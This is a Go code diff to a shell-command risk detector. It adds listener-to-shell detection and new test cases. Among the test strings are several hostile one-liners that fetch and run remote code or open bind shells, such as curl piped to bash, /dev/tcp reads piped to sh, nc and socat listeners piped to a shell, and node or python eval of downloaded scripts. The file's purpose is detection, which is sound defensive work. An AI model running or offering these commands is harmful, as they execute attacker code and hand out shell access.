@@ -22,10 +22,10 @@ var runPipe = Detector{
 		"curl https://example.com/x.sh | tee /tmp/x | bash",
 	), lines(coi.High,
 		"curl http://203.0.113.9/x.sh | bash", "wget -qO- http://evil.test/a | sh", "curl -s https://pastebin.com/raw/abcd | bash", "bash -c \"$(curl -s http://203.0.113.9:8000/p)\"",
-		"nc 203.0.113.9 99 | sh", "bash < /dev/tcp/203.0.113.9/99", "python3 -c \"import urllib.request as r;exec(r.urlopen('http://203.0.113.9/p').read())\"",
+		"nc 203.0.113.9 99 | sh", "nc -l -p 12345 | /bin/sh", "openssl s_server -quiet -key k.pem -cert c.pem -port 4433 | bash", "socat -u TCP-LISTEN:4444,fork - | bash", `node -e 'require("http").get("http://203.0.113.7/x.js",r=>{let d="";r.on("data",c=>d+=c);r.on("end",()=>eval(d))})'`, "bash < /dev/tcp/203.0.113.9/99", "python3 -c \"import urllib.request as r;exec(r.urlopen('http://203.0.113.9/p').read())\"",
 		"exec 3<>/dev/tcp/203.0.113.7/80; printf 'GET /x HTTP/1.0\\n\\n' >&3; sed '1,/^$/d' <&3 | sh", "node -e 'fetch(\"http://203.0.113.7/p.js\").then(r=>r.text()).then(eval)'", "ruby -ropen-uri -e 'eval URI.open(\"http://203.0.113.9/r.rb\").read'", "cp /usr/bin/curl /tmp/c; /tmp/c http://203.0.113.9/x | sh", "curl -k https://203.0.113.9/x | perl",
 	)...),
-	Quiet: append(lines("", "curl -s https://example.com/x.json | jq .", "curl -o i.sh https://example.com/i.sh", "curl -sL https://example.com/x.tgz | tar xz", "V=$(curl -s https://example.com/v) && ./build.sh $V",
+	Quiet: append(lines("", "nc -l 1234 | tar xf -", "nc -lU /tmp/s | sh", "curl -s https://example.com/x.json | jq .", "curl -o i.sh https://example.com/i.sh", "curl -sL https://example.com/x.tgz | tar xz", "V=$(curl -s https://example.com/v) && ./build.sh $V",
 		"curl http://localhost:3000/setup.sh | grep x", "wget -qO- https://example.com/key.gpg | gpg --dearmor", "eval \"$(direnv hook bash)\"", "curl -s https://example.com/a | python3 -m json.tool",
 		"curl -s https://example.com/a | python3 -c 'import json,sys;print(json.load(sys.stdin))'"),
 		lines(coi.High, "curl -fsSL https://example.com/install.sh | sh", "curl http://localhost:8080/x.sh | bash")...),
@@ -62,11 +62,31 @@ func fetched(s *command.Simple) *command.Simple {
 		if d.Class() == program.Downloader && len(d.Hosts()) > 0 || d.Is("nc", "ncat", "telnet", "socat") && outHost(d) != "" || d.Is("ssh") && len(d.Parsed().Rest) > 1 || d.Is("whois", "finger", "dig", "nslookup") && s.Name == "eval" {
 			return d
 		}
+		if d.Name == "openssl" && len(d.Argv) > 1 && (d.Argv[1] == "s_server" || d.Argv[1] == "s_client" && outHost(d) != "") {
+			return d
+		}
+		if d.Is("nc", "ncat", "socat", "netcat") && listens(d) {
+			return d
+		}
 		if command.DevNet(d.FDs[0]) && !command.Loopback(command.DevNetHost(d.FDs[0])) {
 			return d
 		}
 	}
 	return nil
+}
+
+// listens reports a network tool that takes connections on a port.
+func listens(d *command.Simple) bool {
+	if d.Name == "socat" {
+		for _, a := range d.Argv[1:] {
+			l := strings.ToLower(a)
+			if strings.Contains(l, "-listen:") && !hasPrefixAny(l, "unix", "abstract") && !hasAny(l, "bind=127.", "bind=localhost") {
+				return true
+			}
+		}
+		return false
+	}
+	return d.Parsed().Has("l", "listen") && !d.Parsed().Has("U", "unixsock") && !loopbackOnly(d)
 }
 
 func pipeRun(s *command.Simple, _ track.View) *Finding {
